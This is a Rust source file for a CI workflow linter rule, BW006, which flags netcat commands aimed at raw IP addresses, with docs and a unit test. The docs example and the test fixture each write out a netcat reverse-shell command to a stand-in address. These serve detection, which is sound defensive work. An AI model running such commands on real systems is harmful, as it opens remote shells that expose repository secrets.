//! BW006: netcat to a raw IP address.

use crate::audit::rule::{Check, FileKind, Rule, Sink};
use crate::audit::workflow::Workflow;
use crate::report::Severity;

pub static RULE: Rule = Rule {
    code: "BW006",
    name: "netcat-to-ip",
    kind: FileKind::Workflow,
    severity: Severity::High,
    summary: "A `run:` script connects netcat to a raw IP address (a reverse-shell pattern).",
    fix: "Remove it; CI jobs have no business opening raw sockets to fixed addresses.",
    docs: r#"## What it does
Flags `nc`, `ncat` or `netcat` commands with an IPv4 address argument.

## Why is this bad?
This is how injected code opens a reverse shell from a runner that holds the repository's secrets and tokens.

## Example
```yaml
steps:
  - run: nc 203.0.113.7 4444 -e /bin/sh
```

## Use instead
```yaml
steps:
  - run: ./scripts/test.sh
```

## References
- checkov CKV_GHA_4
"#,
    opt_in: false,
    check: Check::Workflow(check),
};

fn is_ipv4(text: &str) -> bool {
    let parts: Vec<&str> = text.split('.').collect();
    parts.len() == 4 && parts.iter().all(|p| !p.is_empty() && p.len() <= 3 && p.chars().all(|c| c.is_ascii_digit()))
}

fn check(workflow: &Workflow, sink: &mut Sink) {
    for step in workflow.steps() {
        let Some(run) = step.run() else { continue };
        for command in run.parse().commands() {
            if matches!(command.name(), "nc" | "ncat" | "netcat") && command.args().iter().any(|w| is_ipv4(&w.text)) {
                sink.scoped(run.line_of(command.start()), 1, step.job, "netcat connects to a raw IP address");
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::testing::lines;

    #[test]
    fn flags_netcat_to_ip() {
        assert_eq!(lines(&RULE, "on: push\njobs:\n  a:\n    steps:\n      - run: nc -e /bin/sh 10.0.0.1 4444\n      - run: nc -z localhost 80\n"), [5]);
    }
}
